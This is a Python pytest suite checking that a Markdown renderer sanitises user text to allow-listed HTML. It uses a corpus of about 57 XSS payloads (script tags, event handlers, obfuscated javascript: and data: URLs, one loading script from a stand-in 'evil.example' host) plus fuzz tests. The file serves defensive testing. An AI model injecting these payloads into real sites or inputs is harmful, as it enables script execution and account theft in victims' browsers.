"""User text is Markdown rendered to a short allow-list of HTML: no payload from the usual XSS corpus
may come out as a tag, attribute or URL that could run script."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coproduce.core.richtext import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<table background="javascript:alert(1)">',
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" onmouseover=alert(1)>x</a>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '[a](https://example.org "title" onclick=alert(1))',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<x onclick=alert(1)>x</x>",
]

SAFE_SCHEMES = ("http://", "https://", "mailto:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_harmless(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> in {html!r}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, f"attribute {name} on <{tag}> in {html!r}"
            if name == "href":
                assert (value or "").startswith(SAFE_SCHEMES), f"href {value!r} in {html!r}"
    assert not re.search(r"<\s*script", html, re.IGNORECASE)


def test_the_corpus_has_at_least_fifty_payloads() -> None:
    assert len(set(XSS_PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_harmlessly(payload: str) -> None:
    assert_harmless(render_markdown(payload))
    assert_harmless(render_markdown(f"Some text before.\n\n{payload}\n\n**and after**"))


def test_ordinary_markdown_still_works() -> None:
    html = render_markdown("# Title\n\nA **bold** idea with a [link](https://example.org/x) and\n\n- one\n- two")
    assert "<h3>Title</h3>" in html
    assert "<strong>bold</strong>" in html
    assert '<a href="https://example.org/x" rel="nofollow noopener noreferrer ugc">link</a>' in html
    assert "<li>one</li>" in html


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
def test_any_text_renders_harmlessly(text: str) -> None:
    assert_harmless(render_markdown(text))


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                '"',
                "'",
                "=",
                "javascript:",
                "on",
                "error",
                "a href",
                "img src",
                "script",
                "(",
                ")",
                "[",
                "]",
                "&#",
                "x",
                " ",
                "\n",
                "`",
                "!",
            ]
        ),
        max_size=40,
    )
)
def test_fragments_of_payloads_render_harmlessly(parts: list[str]) -> None:
    assert_harmless(render_markdown("".join(parts)))


@pytest.mark.parametrize(
    "text", ["[]()", "[x]()", "[x](#)", "[x](/p/elsewhere/)", "[x](relative/page)", "[x](//elsewhere.example/)"]
)
def test_empty_and_relative_links_keep_their_words_but_lose_their_address(text: str) -> None:
    html = render_markdown(text)
    assert "href" not in html
    assert_harmless(html)
    if "[x]" in text:
        assert ">x</a>" in html


def test_absolute_links_keep_their_address() -> None:
    assert 'href="https://example.org/a"' in render_markdown("[a](https://example.org/a)")
    assert 'href="mailto:hub@example.org"' in render_markdown("[write](mailto:hub@example.org)")
